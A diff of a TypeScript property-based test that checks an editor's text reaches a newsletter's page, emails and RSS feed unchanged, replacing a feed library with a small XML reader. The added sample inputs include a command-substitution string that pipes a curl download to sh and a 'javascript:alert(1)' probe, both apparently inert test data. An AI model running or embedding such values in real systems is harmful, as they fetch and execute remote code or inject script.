@@ -1,6 +1,5 @@
 import fc from 'fast-check';
 import { Parser } from 'htmlparser2';
-import { parseFeed } from 'feedsmith';
 import { expect, it } from 'vitest';
 import { loadLibrary } from '#content/library.ts';
 import { checkDigest, sampleMail } from '#emails/checks/check-mail.ts';
@@ -18,17 +17,12 @@ const SPOKEN_OF = [
   ...['From: Jo <jo@example.org>', 'redis://cache:6379', 'http://example.org', 'a & b &amp; c'],
   ...['<https://a.example>', '{{name}}', '%%x%%', '*|FNAME|*', '[object Object]', '/undefined'],
   ...['https://personal.invalid/unsubscribe', '$& $1 $`', ']]> <![CDATA[', '[1] * > | - 1. +'],
-  ...[
-    'C:\\new\\table',
-    '~~~',
-    'x'.repeat(70),
-    '開発者のための「道具」です。',
-    'كلمة',
-    'מילה',
-    '👩‍👩‍👧',
-  ],
+  ...['C:\\new\\table', '~~~', 'x'.repeat(70), '$(curl -s https://a.example | sh)', 'From me'],
+  ...['<style>a{filter:blur(2px)}</style>', 'position: sticky', '<form>', 'javascript:alert(1)'],
+  ...['&nbsp;', 'www.example.org', '<img src=a.svg>', '開発者のための「道具」です。'],
+  ...['كلمة', 'מילה', '👩‍👩‍👧'],
 ];
-const ALPHABET = [...'<>&{}%*|$`~[]()#:/@\\!?=+-_.;ab1é漢、あคλש'];
+const ALPHABET = Array.from('<>&{}%*|$`~[]()#:/@\\!?=+-_.;ab1é漢、あคλש');
 
 const aText = fc
   .array(
@@ -38,7 +32,7 @@ const aText = fc
       maxLength: 4,
     },
   )
-  .map((words) => words.join(' ').replace(/\s+/g, ' ').trim().slice(0, 76).toWellFormed())
+  .map((words) => words.join(' ').replace(/\s+/g, ' ').slice(0, 76).toWellFormed().trim())
   // The sign of a draft, which the rule `unfinished` asks to be replaced, and an empty field.
   .filter((text) => text !== '' && text !== '\ufffd');
 
@@ -64,6 +58,22 @@ function textOf(html: string): string {
   parser.end();
   return squeezed(text);
 }
+/** What some XML holds, by the name of the element; of two with a name, the last. */
+function inXml(xml: string): Record<string, string> {
+  const texts: Record<string, string> = {};
+  let inside = '';
+  const parser = new Parser(
+    {
+      onopentag: (name) => (texts[(inside = name)] = ''),
+      ontext: (words) => (texts[inside] = `${texts[inside] ?? ''}${words}`),
+      onclosetag: () => (inside = ''),
+    },
+    { xmlMode: true },
+  );
+  parser.write(xml);
+  parser.end();
+  return texts;
+}
 const squeezed = (text: string) => text.replace(/\s+/g, '');
 
 const links = createLinks('https://site.example');
@@ -72,12 +82,15 @@ const FILLER = 'These words make the section long enough for its limit.';
 
 it('carries any text of the editor unchanged to page, mails and feed, and no check is in its way', async () => {
   const nine = fc.array(aText, { minLength: 9, maxLength: 9 });
-  const examples = [0, 9].map((from): [string[]] => [[...SPOKEN_OF].slice(from).slice(0, 9)]);
+  // Each of them once, as whatever its turn is.
+  const examples = SPOKEN_OF.flatMap((_, from): [string[]][] =>
+    from % 9 === 0 ? [[[...SPOKEN_OF, ...SPOKEN_OF].slice(from, from + 9)]] : [],
+  );
   await fc.assert(
     fc.asyncProperty(nine, async (texts) => {
       const [name = '', tagline = '', likes = '', dislikes = '', intro = ''] = texts;
       const [subject = '', preheader = '', sponsor = '', beta = ''] = texts.slice(5);
-      const field = (text: string) => [...text].slice(0, 50).join('').trim();
+      const field = (text: string) => Array.from(text).slice(0, 50).join('').trim();
       const folder = temporaryFolder({
         'reviews/tool.mdx': reviewSource(
           { name: field(name), tagline, disclosure: likes },
@@ -114,7 +127,7 @@ it('carries any text of the editor unchanged to page, mails and feed, and no che
       const reviews = selections.reviews(library);
       if (!page) throw new Error('The page is not there.');
       const html = issueHtml(page, reviews, at);
-      const { feed } = parseFeed(
+      const feed = inXml(
         rssXml({
           title: 'Feed',
           link: at('/'),
@@ -122,13 +135,12 @@ it('carries any text of the editor unchanged to page, mails and feed, and no che
           items: [{ title: subject, content: { encoded: html } }],
         }),
       );
-      const [item] = feed.items as { title: string; content: { encoded: string } }[];
-      expect(item?.title).toBe(subject);
+      expect(feed['title']).toBe(subject);
       for (const text of said.map(squeezed))
-        expect(textOf(item?.content.encoded ?? '')).toContain(text);
+        expect(textOf(feed['content:encoded'] ?? '')).toContain(text);
       expect(textOf(reviews[0]?.likes.html ?? '')).toContain(squeezed(likes));
       expect(textOf(reviews[0]?.dislikes.html ?? '')).toContain(squeezed(dislikes));
     }),
-    { numRuns: Number(process.env['ANY_TEXT_RUNS'] ?? 12), examples },
+    { numRuns: 16, examples },
   );
 });
